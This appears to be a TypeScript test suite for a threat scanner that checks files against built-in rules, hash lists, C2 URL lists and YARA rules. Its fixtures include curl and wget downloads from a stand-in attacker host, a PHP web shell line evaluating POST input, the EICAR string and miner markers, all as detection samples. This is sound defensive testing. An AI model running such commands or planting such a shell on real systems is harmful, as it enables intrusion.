import { createHash } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import { lookIntoFiles } from '../../../lambdas/workloads/look-into-files.ts';
import { ownRulesOf, type RuleFile } from '../../../lambdas/workloads/threats/own-rules.ts';
import { THREAT_RULES } from '../../../lambdas/workloads/threats/rules.ts';
import { treeOf } from '../packages/tree.ts';
import { literalsOf } from '../secrets/literals.ts';
import { EICAR, THREAT_SAMPLES } from './samples.ts';

const USUAL = { scope: 'usual', paths: [] } as const;

const look = (files: Readonly<Record<string, string>>, rules: readonly RuleFile[] = [], everywhere = false) =>
  lookIntoFiles(treeOf(files), USUAL, { threats: { everywhere, own: ownRulesOf(rules) } });

const found = async (...given: Parameters<typeof look>) =>
  (await look(...given)).threats.map(({ rule, path }) => `${rule} ${path}`);

describe.each(THREAT_RULES)('the rule $id', ({ id, patterns }) => {
  const samples = THREAT_SAMPLES[id];

  test('has three plain bytes in a row at least in each pattern', () => {
    for (const pattern of patterns)
      for (const literal of literalsOf(pattern))
        expect({ pattern, literal, enough: literal.length >= 3 }).toMatchObject({ enough: true });
  });

  test('finds its samples', async () => {
    const given = samples?.found ?? [];
    const told = await found(Object.fromEntries(given));
    expect(told.filter((text) => text.startsWith(`${id} `))).toEqual(
      given.map(([path]) => `${id} ${path}`).toSorted(),
    );
  });

  test('leaves what only looks like it', async () => {
    const told = await found(Object.fromEntries(samples?.left ?? []));
    expect(told.filter((text) => text.startsWith(`${id} `))).toEqual([]);
  });

  test('has samples and near misses', () => {
    expect(samples?.found.length).toBeGreaterThan(0);
    expect(samples?.left.length).toBeGreaterThan(0);
  });
});

describe('what users bring along', () => {
  const FILES = {
    '/tmp/bad': 'something bad',
    '/root/.bash_history':
      'curl https://evil.example.net/x/ -o x\nwget http://203.0.113.7/y\nssh 198.51.100.20\n',
    '/opt/app/a.js': 'fetch("https://evil.example.net/x")',
    '/opt/app/mine': 'needle in a file',
  };

  test.for<[string, RuleFile, readonly string[]]>([
    [
      'a list of hashes',
      {
        name: 'bad.sha256',
        text: `# ours\n${createHash('sha256').update('something bad').digest('hex').toUpperCase()}  bad\n`,
      },
      ['bad.sha256 /tmp/bad'],
    ],
    [
      'a URL, where commands are',
      { name: 'c2.urls', text: 'https://evil.example.net/x\n' },
      ['c2.urls /root/.bash_history'],
    ],
    ['a host', { name: 'c2.urls', text: '\nevil.example.net\n' }, ['c2.urls /root/.bash_history']],
    ['an address', { name: 'ips.urls', text: '198.51.100.20 # botnet\n' }, ['ips.urls /root/.bash_history']],
    ['another host', { name: 'c2.urls', text: 'example.net\n' }, []],
    [
      'a rule',
      { name: 'mine.yar', text: 'rule needle { strings: $a = "needle" condition: $a at 0 }' },
      ['mine.yar/needle /opt/app/mine'],
    ],
    [
      'a rule about size',
      { name: 'mine.yara', text: 'rule tiny { condition: filesize == 13 }' },
      ['mine.yara/tiny /tmp/bad'],
    ],
  ])('%s', async ([, file, expected]) => {
    expect(await found(FILES, [file])).toEqual(expected);
  });

  test('a rule that does not compile, a line that is no entry and a file that is too large are told, and the rest holds', async () => {
    const { threats, refused, problems } = await look(FILES, [
      { name: 'broken.yar', text: 'rule x { condition: $nothing }' },
      { name: 'mine.yar', text: 'rule needle { strings: $a = "needle" condition: $a }' },
      { name: 'bad.sha256', text: 'not a hash\n' },
      { name: 'large.yar', why: 'it has 9 bytes' },
    ]);
    expect(threats.map(({ rule }) => rule)).toEqual(['mine.yar/needle']);
    expect(refused.map(({ name }) => name).toSorted()).toEqual(['bad.sha256', 'broken.yar', 'large.yar']);
    expect(refused.find(({ name }) => name === 'broken.yar')?.why).toContain('unknown pattern');
    expect(problems).toEqual([]);
  });

  test('a rule that keeps the engine for ever is left out after three files, and ours go on', async () => {
    const slow = { name: 'slow.yar', text: 'rule slow { strings: $a = /x.*x.*x.*x.*y/s condition: $a }' };
    const files = Object.fromEntries([1, 2, 3, 4, 5].map((i) => [`/opt/${i}`, 'x'.repeat(400_000)]));
    const bad = `<?php eval(${'$_PO'}ST['c']); // ${'x'.repeat(400_000)}`;
    const { threats, problems, seen } = await look({ '/srv/a.php': bad, ...files, '/tmp/dropped': EICAR }, [
      slow,
    ]);
    expect(threats.map(({ rule, path }) => `${rule} ${path}`)).toEqual([
      'web-shell-php /srv/a.php',
      'eicar /tmp/dropped',
    ]);
    expect(seen.has('/srv/a.php')).toBe(false);
    expect(seen.has('/tmp/dropped')).toBe(true);
    expect(problems.filter((text) => text.includes('takes longer'))).toHaveLength(3);
    expect(problems).toContainEqual(expect.stringContaining('left out from here on'));
  });
});

test.for([
  ['lines without end', '/etc/cron.d/job', `${'# '.repeat(2_000_000)}stratum+tcp://`.repeat(2)],
  ['names without end', '/root/.bash_history', 'a-'.repeat(4_000_000)],
  ['dots without end', '/root/.bash_history', 'a.'.repeat(4_000_000)],
  ['addresses without end', '/opt/a.conf', 'http://a'.repeat(1_000_000)],
  ['many beginnings', '/opt/a.conf', '"donate-level": '.repeat(500_000)],
  ['many shells', '/var/www/a.php', 'eval('.repeat(1_000_000)],
] as const)('a file that was made to take long ends: %s', async ([, path, text]) => {
  const start = performance.now();
  await look({ [path]: text }, [{ name: 'c2.urls', text: 'evil.example.net\n' }]);
  expect(performance.now() - start).toBeLessThan(60_000);
});

test('in the usual places only, or everywhere', async () => {
  const files = { '/usr/bin/x': EICAR, '/tmp/x': EICAR };
  expect(await found(files)).toEqual(['eicar /tmp/x']);
  expect(await found(files, [], true)).toEqual(['eicar /tmp/x', 'eicar /usr/bin/x']);
});

test('a file that has not changed is not read again, and what was found in it stands', async () => {
  const reads: string[] = [];
  const counted = (files: Readonly<Record<string, string>>) => {
    const tree = treeOf(files);
    return {
      ...tree,
      async *walk(folders: readonly string[]) {
        for await (const { path, open } of tree.walk(folders))
          yield {
            path,
            open: async () => {
              const node = await open();
              return {
                ...node,
                read: (offset: number, length: number) => {
                  reads.push(path);
                  return node.read(offset, length);
                },
              };
            },
          };
      },
    };
  };
  const wanted = { threats: { everywhere: false, own: ownRulesOf([]) } };
  const files = { '/tmp/bad': EICAR, '/opt/a': 'one', '/opt/b': 'two' };
  const first = await lookIntoFiles(counted(files), USUAL, wanted);
  expect(reads.splice(0).toSorted()).toEqual(['/opt/a', '/opt/b', '/tmp/bad']);
  const changed = { ...files, '/opt/b': 'changed' };
  const second = await lookIntoFiles(counted(changed), USUAL, { ...wanted, known: first.seen });
  expect(reads).toEqual(['/opt/b']);
  expect(second.threats).toEqual([{ rule: 'eicar', path: '/tmp/bad' }]);
  expect([...second.seen.keys()].toSorted()).toEqual([...first.seen.keys()].toSorted());
});
